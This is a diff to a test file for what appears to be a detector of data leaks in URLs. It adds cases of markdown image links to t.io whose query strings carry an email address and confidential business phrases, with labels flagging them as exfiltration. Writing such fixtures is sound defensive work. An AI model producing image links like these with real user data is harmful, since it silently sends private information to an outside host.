@@ -55,6 +55,8 @@ def test_hosts_are_told_as_they_go_over_the_wire(text: str, expected: list[str])
         ("![x](https://t.io/p?u=maria.lopez@posteo.net)", ["fetched_personal"]),
         ("![x](https://t.io/p?z=the+merger+closes+in+May)", ["fetched_words"]),
         ("![x](https://t.io/p?payload=Q3_revenue_down)", ["fetched_words"]),
+        ("![x](https://t.io/p?memory=Q3_revenue_down)", ["fetched_words"]),
+        ("![x](https://t.io/p?e=Q3_revenue&m=landscape)", []),
         (f"https://t.io/?k={'q8WmZk2LxVt5RbYc7NdJh3GsPz0F' * 3}", ["bare_opaque"]),
         ("![x](https://t.io/cat-in-the-garden.png?w=800&h=600&style=flat)", []),
         ("[s](https://t.io/?q=red+shoes+for+long+walks)", []),
